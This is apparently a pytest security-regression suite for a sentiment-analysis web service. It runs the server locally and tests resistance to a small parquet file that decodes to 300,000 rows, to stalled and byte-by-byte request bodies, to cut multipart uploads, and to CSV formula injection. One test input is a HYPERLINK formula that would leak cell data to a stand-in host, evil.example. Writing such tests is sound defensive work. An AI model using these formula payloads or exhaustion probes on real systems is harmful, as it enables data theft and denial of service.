"""The security audit's findings against a real server: create_app under uvicorn in a
subprocess on a free 127.0.0.1 port (body timeouts shortened to 1 s idle / 3 s total), probed
over plain sockets and, for the CSV download, with the page in headless Chromium."""
from __future__ import annotations

import csv
import io
import socket
import sys
import time
from pathlib import Path

import httpx
import pytest
from conftest import free_port, live_server

IDLE_S, TOTAL_S = 1.0, 3.0
CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run"]


def rss_kib(pid: int) -> int:
    return next(int(ln.split()[1]) for ln in open(f"/proc/{pid}/status") if ln.startswith("VmRSS"))


@pytest.fixture(scope="module")
def server(tiny_bundle, tmp_path_factory):
    port = free_port()
    log = tmp_path_factory.mktemp("serve-hardening") / "server.log"
    code = ("import uvicorn\n"
            "from sentiment_lab.serve import create_app, limits\n"
            f"limits.BODY_IDLE_TIMEOUT_S, limits.BODY_TOTAL_TIMEOUT_S = {IDLE_S}, {TOTAL_S}\n"
            f"uvicorn.run(create_app({str(tiny_bundle)!r}, threads=1), host='127.0.0.1', port={port}, "
            "access_log=False, log_level='warning')\n")
    with live_server([sys.executable, "-c", code], port, log) as (base, proc):
        yield base, port, proc


def test_a_33_kb_parquet_probe_does_not_grow_the_server(server):
    """Measured before the fix: RSS 412 -> 1,272 MiB (the table decoded, then refused)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    base, _, proc = server
    buf = io.BytesIO()
    pq.write_table(pa.table({"text": [("a great film " * 80)[:1000]] * 300_000}), buf)
    assert len(buf.getvalue()) < 40_000
    httpx.post(f"{base}/v1/predict/file", files={"file": ("warm.csv", b"text\ngreat\n")}, timeout=30)
    before = rss_kib(proc.pid)
    for _ in range(3):
        r = httpx.post(f"{base}/v1/predict/file", files={"file": ("probe.parquet", buf.getvalue())}, timeout=120)
        assert r.status_code == 413 and "300,000 rows; the limit is 10,000" in r.json()["detail"]
    grown = rss_kib(proc.pid) - before
    # Measured after the fix: +39.6 MiB (pyarrow's first read of a file: its allocator and footer
    # parsing), once +40.0 MiB in CI; before it: +1,104 MiB for three probes. 200 MiB sits 5x above
    # the first and 5x below the second.
    assert grown < 200 * 1024, f"server memory grew by {grown} KiB"


RESET = b"<connection reset by the server>"


def raw(port: int, head: bytes, trickle: bytes = b"", every: float = 0.0, wait: float = 15.0) -> tuple[bytes, float]:
    """Send `head`, then `trickle` one byte every `every` seconds until an answer comes;
    returns (answer, seconds until it came)."""
    t0 = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=wait) as s:
        s.sendall(head)
        s.setblocking(False)
        answer = b""
        rest = iter(trickle)
        while time.monotonic() - t0 < wait:
            try:
                part = s.recv(65536)
                if not part:  # closed by the server
                    break
                answer += part
                continue
            except BlockingIOError:
                pass
            except ConnectionResetError:  # the server closed with a byte of ours unread: see the trickle test
                return answer or RESET, time.monotonic() - t0
            if answer:  # answered and not closed yet: wait for the close
                time.sleep(0.05)
                continue
            b = next(rest, None)
            if b is not None:
                try:
                    s.send(bytes([b]))
                except OSError:
                    break
            time.sleep(every or 0.05)
        return answer, time.monotonic() - t0


HEAD = (b"POST /v1/predict HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        b"Content-Length: 200\r\n\r\n")


def test_a_stalled_body_is_answered_408_and_closed(server):
    _, port, _ = server
    answer, dt = raw(port, HEAD + b'{"text": ')
    assert answer.startswith(b"HTTP/1.1 408"), answer[:200]
    assert b"did not arrive in time" in answer and b"connection: close" in answer.lower()
    assert IDLE_S * 0.9 < dt < IDLE_S + 3  # answered after the idle timeout, and the connection closed


def test_a_body_trickled_byte_by_byte_is_answered_408_at_the_deadline(server):
    base, port, _ = server
    answer, dt = raw(port, HEAD, trickle=b'{"text": "' + b"a" * 190, every=0.25)
    # The server answers 408 and closes at the deadline. A byte the client trickles in during that
    # close arrives at a closed socket, and the server's kernel answers it with a reset, which
    # discards the 408 still unread in the client's buffer (TCP; measured: about half the runs on
    # a 2-core machine). Either way the body was cut at the deadline, which is what is tested here.
    assert answer.startswith(b"HTTP/1.1 408") or answer == RESET, answer[:200]
    assert TOTAL_S * 0.9 < dt < TOTAL_S + 3
    assert httpx.post(f"{base}/v1/predict", json={"text": "great"}).status_code == 200


@pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian chromium is not installed (/usr/bin/chromium)")
def test_the_page_downloads_a_csv_with_formulas_neutralised(server, tmp_path):
    from playwright.sync_api import sync_playwright

    base, _, _ = server
    lines = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1 great", "a great film", "-awful"]
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        page = browser.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.goto(base + "/")
        page.click("#tab-batch")
        page.fill("#batch-text", "\n".join(lines))
        page.click("#run-batch")
        page.wait_for_function("document.querySelectorAll('#batch-table tbody tr').length === 4")
        with page.expect_download() as dl:
            page.click("#download")
        path = tmp_path / "out.csv"
        dl.value.save_as(path)
        upload = tmp_path / "reviews.csv"
        upload.write_text('review\n"@SUM(1,2) awful"\nfine film\n', encoding="utf-8")
        page.fill("#batch-text", "")
        page.set_input_files("#file", str(upload))
        page.fill("#column", "review")
        page.click("#run-batch")
        page.wait_for_function("document.querySelectorAll('#batch-table tbody tr').length === 2")
        with page.expect_download() as dl2:
            page.click("#download")
        path2 = tmp_path / "out2.csv"
        dl2.value.save_as(path2)
        browser.close()
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert [r["text"] for r in rows] == ["'" + lines[0], "'+1+1 great", "a great film", "'-awful"]
    rows2 = list(csv.DictReader(io.StringIO(Path(path2).read_text(encoding="utf-8-sig"), newline="")))
    assert [r["text"] for r in rows2] == ["'@SUM(1,2) awful", "fine film"]
    assert errors == []


def test_an_upload_cut_midway_leaves_the_server_serving(server):
    """A client that drops the connection in the middle of a multipart upload (issue 31's
    'cut an upload midway'): the server keeps answering, and its memory does not grow with it."""
    base, port, proc = server
    boundary = "cutcutcut"
    head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"t.csv\"\r\n"
            "Content-Type: text/csv\r\n\r\ntext\n").encode()
    rows = b"".join(b"a fine film number %d\n" % i for i in range(2000))
    before = rss_kib(proc.pid)
    for _ in range(5):
        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
            s.sendall((f"POST /v1/predict/file HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                       f"Content-Type: multipart/form-data; boundary={boundary}\r\n"
                       f"Content-Length: {len(head) + 2 * len(rows)}\r\n\r\n").encode() + head + rows)
        # closed here with half the declared body unsent
    r = httpx.post(f"{base}/v1/predict", json={"text": "a fine film"}, timeout=30)
    assert r.status_code == 200 and r.json()["predictions"][0]["label"] in ("positive", "negative")
    assert rss_kib(proc.pid) - before < 50 * 1024  # KiB: no pile of half-read uploads
